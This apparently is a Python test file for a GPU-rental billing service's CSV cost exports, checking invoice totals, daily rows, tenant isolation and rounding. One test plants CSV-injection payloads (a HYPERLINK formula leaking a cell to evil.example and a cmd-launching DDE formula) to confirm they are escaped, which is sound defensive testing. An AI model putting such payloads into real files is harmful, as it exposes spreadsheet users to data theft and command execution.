"""Cost and usage exports: sums back to the invoice, days, tenancy, streaming (the FOCUS
specification's own rules: test_focus.py)."""

from __future__ import annotations

import csv
import io
from collections import Counter
from decimal import Decimal

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from app.dashboard.exports import USAGE_COLUMNS, allocate
from tests.dashboard.world import PERIOD, World
from tests.harness import Console, bearer


def export(client: TestClient, w: World, kind: str) -> list[dict[str, str]]:
    path = f"/v1/customers/{w.acme.customer['id']}/exports/{kind}?period={PERIOD}"
    with client.stream("GET", path, headers=bearer(w.acme.key)) as response:
        assert response.status_code == 200, response.read()
        assert response.headers["content-type"].startswith("text/csv")
        assert "content-length" not in response.headers  # streamed, not built whole
        text = "".join(response.iter_text())
    return list(csv.DictReader(io.StringIO(text)))


def test_exports_sum_back_to_the_invoice(client: TestClient, seeded: World) -> None:
    invoice = seeded.invoice
    focus = export(client, seeded, "focus.csv")
    usage = export(client, seeded, "usage.csv")
    assert sum(Decimal(r["BilledCost"]) for r in focus) == Decimal(invoice["total"])
    assert sum(Decimal(r["amount"]) for r in usage) == Decimal(invoice["total"])
    # Line by line, too: each invoice line's day rows add up to it.
    by_kind: Counter[str] = Counter()
    for r in usage:
        by_kind[r["kind"]] += Decimal(r["amount"])  # type: ignore[assignment]
    expected: Counter[str] = Counter()
    for line in invoice["lines"]:
        expected[line["kind"]] += Decimal(line["amount"])  # type: ignore[assignment]
    assert by_kind == expected
    assert {r["BillingCurrency"] for r in focus} == {"EUR"}


def test_usage_rows_are_per_rental_gpu_and_local_day(client: TestClient, seeded: World) -> None:
    usage = export(client, seeded, "usage.csv")
    charge = [r for r in usage if r["kind"] == "charge"]
    # 10 Oct 00:00 to 12 Oct 00:00 UTC is 02:00 CEST on the 10th to 02:00 on the 12th.
    assert [r["day"] for r in charge] == ["2026-10-10", "2026-10-11", "2026-10-12"]
    assert [int(r["seconds"]) for r in charge] == [22 * 3600, 24 * 3600, 2 * 3600]
    failure = [r for r in usage if r["kind"] == "failure_credit"]
    assert [(r["day"], r["gpu_uuid"], r["seconds"]) for r in failure] == [
        ("2026-10-10", "GPU-A-1", "2820")
    ]
    assert {r["rental_id"] for r in usage if r["kind"] != "tax"} == {seeded.acme.rental["id"]}


def test_exports_are_the_customers_own(client: TestClient, console: Console, seeded: World) -> None:
    acme = seeded.acme.customer["id"]
    other = client.get(
        f"/v1/customers/{acme}/exports/focus.csv?period={PERIOD}", headers=bearer(seeded.other.key)
    )
    assert other.status_code == 404
    # A month without an invoice (or usage) exports its rows to date: none, just the header.
    none_yet = client.get(
        f"/v1/customers/{acme}/exports/usage.csv?period=2026-09", headers=bearer(seeded.acme.key)
    )
    assert none_yet.status_code == 200 and none_yet.text == ",".join(USAGE_COLUMNS) + "\n"
    page = client.get(
        f"/dashboard/exports/focus.csv?period={PERIOD}", headers=bearer(seeded.acme.key)
    )
    assert page.status_code == 200 and "attachment" in page.headers["content-disposition"]
    overview = client.get(f"/dashboard?period={PERIOD}", headers=bearer(seeded.acme.key)).text
    assert f'href="/dashboard/exports/focus.csv?period={PERIOD}">' in overview


@given(
    st.integers(min_value=-(10**9), max_value=10**9),
    st.lists(st.integers(min_value=1, max_value=10**6), min_size=1, max_size=40),
)
def test_allocation_sums_exactly_and_stays_within_a_cent(units: int, weights: list[int]) -> None:
    amount = Decimal(units).scaleb(-2)
    parts = allocate(amount, weights, "EUR")
    assert sum(parts) == amount
    total = sum(weights)
    for part, weight in zip(parts, weights, strict=True):
        assert abs(part - amount * weight / total) < Decimal("0.01")


def test_focus_sub_account_is_the_rental_by_its_name_else_its_gpus_and_dates(
    client: TestClient, seeded: World
) -> None:
    rental = seeded.acme.rental["id"]
    described = "1 x H100, 2026-10-10 02:00 to 2026-10-12 02:00 CEST"
    for name, label in [(None, described), ("eval sweep", "eval sweep")]:
        renamed = client.patch(
            f"/v1/rentals/{rental}", json={"name": name}, headers=bearer(seeded.acme.key)
        )
        assert renamed.status_code == 200, renamed.text
        rows = export(client, seeded, "focus.csv")
        rentals = {(r["SubAccountId"], r["SubAccountName"]) for r in rows if r["SubAccountId"]}
        assert rentals == {(rental, label)}


def test_text_cells_that_a_spreadsheet_would_evaluate_are_escaped_numbers_are_not(
    client: TestClient, console: Console, seeded: World
) -> None:
    """OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading
    apostrophe; numeric columns keep their negative numbers as numbers."""
    acme = seeded.acme
    hostile = {
        "customer": '=HYPERLINK("https://evil.example/?"&A1,"invoice")',
        "rental": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    response = client.patch(
        f"/v1/customers/{acme.customer['id']}",
        json={"name": hostile["customer"]},
        headers=console.headers,
    )
    assert response.status_code == 200, response.text
    response = client.patch(
        f"/v1/rentals/{acme.rental['id']}",
        json={"name": hostile["rental"]},
        headers=bearer(acme.key),
    )
    assert response.status_code == 200, response.text
    focus = export(client, seeded, "focus.csv")
    usage = export(client, seeded, "usage.csv")
    names = {(r["BillingAccountName"], r["SubAccountName"]) for r in focus if r["SubAccountId"]}
    assert names == {("'" + hostile["customer"], "'" + hostile["rental"])}
    assert {r["ResourceName"] for r in focus if r["ResourceId"]} == {"'" + hostile["rental"]}
    for rows in (focus, usage):
        for r in rows:
            for value in r.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    # Credits stay negative numbers in the numeric columns.
    credits = [r for r in usage if r["kind"] == "failure_credit"]
    assert credits and all(Decimal(r["amount"]) < 0 for r in credits)
    assert all(r["amount"].startswith("-") for r in credits)
    assert any(r["BilledCost"].startswith("-") for r in focus)
    assert all(not r["ChargeDescription"].startswith("'") for r in focus)
